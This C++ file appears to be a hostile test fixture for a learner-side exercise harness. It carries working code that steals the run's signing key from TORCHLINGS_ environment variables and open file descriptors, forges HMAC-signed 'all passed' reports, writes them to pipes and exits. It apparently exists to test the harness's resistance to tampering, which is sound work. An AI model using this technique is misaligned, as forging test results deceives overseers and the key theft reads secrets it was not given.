/// @file
/// @brief Hostile fixture (learner side): a global's initializer looks for the run's key in
/// the environment (every TORCHLINGS_ variable) and in every descriptor listed in
/// /proc/self/fd, reading what each holds; the failing test then signs the rest of an
/// all-passed report with whatever it found (HMAC-SHA256, as the reporter does), writes it to
/// every pipe and ends with _exit(0).
#include <dirent.h>
#include <fcntl.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

extern char** environ;

namespace {

std::string g_stolen;

std::string sign(const std::string& body) {
    unsigned char mac[EVP_MAX_MD_SIZE];
    unsigned int size = 0;
    HMAC(EVP_sha256(), g_stolen.data(), static_cast<int>(g_stolen.size()),
         reinterpret_cast<const unsigned char*>(body.data()), body.size(), mac, &size);
    std::string hex;
    for (unsigned int i = 0; i < size; ++i) {
        hex += "0123456789abcdef"[mac[i] >> 4];
        hex += "0123456789abcdef"[mac[i] & 15];
    }
    return body.substr(0, body.size() - 1) + ",\"mac\":\"" + hex + "\"}\n";
}

const bool g_looked = [] {
    for (char** entry = environ; *entry != nullptr; ++entry) {
        if (std::strncmp(*entry, "TORCHLINGS_", 11) == 0) {
            g_stolen += *entry;  // nothing should be left to find here
        }
    }
    if (DIR* fds = opendir("/proc/self/fd")) {
        while (const dirent* entry = readdir(fds)) {
            const int fd = std::atoi(entry->d_name);
            if (fd < 3 || fd == dirfd(fds)) {
                continue;
            }
            fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
            char buffer[64];
            const ssize_t got = read(fd, buffer, sizeof buffer);
            if (got > 0) {
                g_stolen.assign(buffer, static_cast<std::size_t>(got));
            }
        }
        closedir(fds);
    }
    return true;
}();

}  // namespace

int fx_add(int a, int b) {
    if (a != b || !g_looked) {
        return a + b;
    }
    const std::string forged =
        sign(
            "{\"event\":\"case_end\",\"name\":\"adds equal numbers\",\"status\":\"passed\","
            "\"skip_reason\":null,\"duration_s\":0.0,\"seq\":4}") +
        sign("{\"event\":\"run_end\",\"passed\":2,\"failed\":0,\"skipped\":0,\"seq\":5}");
    for (int fd = 3; fd < 64; ++fd) {
        struct stat info {};
        if (fstat(fd, &info) == 0 && S_ISFIFO(info.st_mode)) {
            [[maybe_unused]] const ssize_t n = write(fd, forged.data(), forged.size());
        }
    }
    _exit(0);
}
